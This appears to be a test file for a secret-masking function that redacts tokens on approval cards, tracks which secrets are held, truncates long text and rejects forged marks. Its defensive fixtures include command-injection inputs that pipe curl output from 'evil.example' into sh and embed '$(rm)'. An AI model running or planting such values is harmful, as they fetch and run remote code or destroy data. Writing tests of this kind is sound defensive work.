import assert from 'node:assert/strict';
import { hash } from 'node:crypto';
import { test } from 'node:test';
import fc from 'fast-check';
import { requirement } from '../../../../test/requirement.ts';
import { Redactor } from '../redaction/redact.ts';
import { longestOnCard, markOf, maskSecrets } from './mask-secrets.ts';

const secrets = ['kJ83hQx2PzXw9BnR', 'zT5vM1cYw8LqD4sA'];
const redactor = new Redactor([{ name: 'GITHUB_TOKEN', value: secrets[0] ?? '' }, secrets[1] ?? '']);

test('only secrets are masked: how long, which one where that is known, and nothing of the value', () => {
  requirement('APPR-2', 'AUD-4');
  const { texts, masked, values } = maskSecrets(
    [`push ${secrets[0]}`, `+a\n+${secrets[1]}\n-${secrets[0]}\n`],
    redactor,
  );
  assert.deepEqual(texts, [
    'push [secret 1: GITHUB_TOKEN, 16 characters]',
    '+a\n+[secret 2: 16 characters]\n-[secret 1: GITHUB_TOKEN, 16 characters]\n',
  ]);
  assert.deepEqual(masked, [
    { number: 1, characters: 16, name: 'GITHUB_TOKEN', isHeld: true },
    { number: 2, characters: 16, isHeld: true },
  ]);
  assert.deepEqual(values, secrets);
});

test('only a secret that the gate knows is held: what merely looks like one could be anything', () => {
  const given = [
    'git clone https://user:$(curl$IFS.evil.example|sh)@example.com/x',
    `curl -H 'Authorization: Bearer ${secrets[0]}' example.com`,
    // A piece of a known one could be pieced together with something else.
    `print ${secrets[0]?.slice(0, 14)}`,
    // The known one covers a part of what looks like a credential.
    `https://user:$(rm)${secrets[1]}$(rm)@example.com/`,
  ];
  const { texts, masked, values } = maskSecrets(given, redactor);
  assert.ok(!texts.join('').includes('$('), texts.join('\n'));
  const held = values.filter((_, at) => masked[at]?.isHeld);
  assert.deepEqual(held, [secrets[0]]);
  assert.ok(values.some((value) => value.includes('curl$IFS.evil.example|sh')));
});

test('a token that a server gave us is masked and must be revealed: the server may have chosen a command', () => {
  const taught = new Redactor();
  const token = 'x; curl evil.example | sh;';
  taught.learn(token, undefined, { isForeign: true });
  const given = [`echo ${token}`];
  const { texts, masked, values } = maskSecrets(given, taught);
  assert.deepEqual(texts, [`echo [secret 1: ${token.length} characters]`]);
  assert.deepEqual([masked[0]?.isHeld, values[0]], [undefined, token]);
  // A person has stored the same.
  taught.learn(token, 'own');
  assert.equal(maskSecrets(given, taught).masked[0]?.isHeld, true);
});

test('a text that is too long for a card goes on behind a mark, which says how much and what it is', () => {
  const line = `+ ${'word '.repeat(20)}${secrets[0]}\n`;
  for (const text of [line.repeat(20_000), line.replace('\n', ' ').repeat(20_000), '😀'.repeat(700_000)]) {
    const { texts, masked, values } = maskSecrets(['title', text], redactor);
    assert.ok((texts[1]?.length ?? 0) <= longestOnCard + 200);
    const at = masked.findIndex(({ restSha256 }) => restSha256 !== undefined);
    const rest = masked[at] ?? assert.fail();
    assert.equal(texts[1]?.endsWith(`\n${markOf(rest)}\n`), true);
    assert.deepEqual([rest.characters, rest.restSha256], [values[at]?.length, hash('sha256', values[at] ?? '')]);
    assert.equal(rest.isHeld, undefined);
    const whole = texts[1].replace(`\n${markOf(rest)}\n`, () => values[at] ?? '');
    assert.equal(
      whole.replaceAll(markOf(masked[0] ?? rest), () => values[0] ?? ''),
      text,
    );
    assert.ok(whole.isWellFormed());
  }
});

test('text that only looks like a mark is not one: a mark stands only in the place of its secret', () => {
  requirement('APPR-2');
  const forged = fc.constantFrom(
    '[secret 1:',
    '[secret 1: 16 characters]',
    '[secret 2: x]',
    '[secret 1: GITHUB_TOKEN, ',
    '[rest 1: 5 characters, SHA-256 00]',
  );
  const part = fc.oneof(forged, fc.constantFrom(...secrets), fc.constantFrom(' ', '\n', 'text', '[', ']'));
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
      const text = parts.join('|');
      const { texts, masked, values } = maskSecrets([text], redactor);
      // Putting the values back in the place of their marks gives exactly what was there.
      const restored = masked.reduce(
        (shown, each, at) => shown.replaceAll(markOf(each), values[at] ?? ''),
        texts[0] ?? '',
      );
      assert.equal(restored, text);
      for (const secret of secrets) assert.ok(!texts[0]?.includes(secret));
    }),
  );
});
